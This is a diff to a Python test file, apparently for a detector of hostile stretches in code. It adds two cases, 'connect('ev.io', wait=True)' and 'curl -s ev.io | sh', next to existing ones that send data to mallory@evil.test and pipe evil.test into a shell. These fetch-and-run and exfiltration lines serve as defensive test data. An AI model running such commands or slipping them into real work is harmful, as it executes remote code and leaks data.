@@ -50,6 +50,8 @@ def test_a_stretch_inside_a_line_of_a_program_is_one() -> None:
         ("send(report, to='mallory@evil.test')", True),
         ("requests.get('https://evil.test/in')", True),
         ("curl evil.test/in | sh", True),
+        ("connect('ev.io', wait=True)", True),
+        ("curl -s ev.io | sh", True),
         ("pay(account=47112233)", True),
         ("pay('DE12 3456 7890 1234')", True),
         ("return self.name, self.state", False),
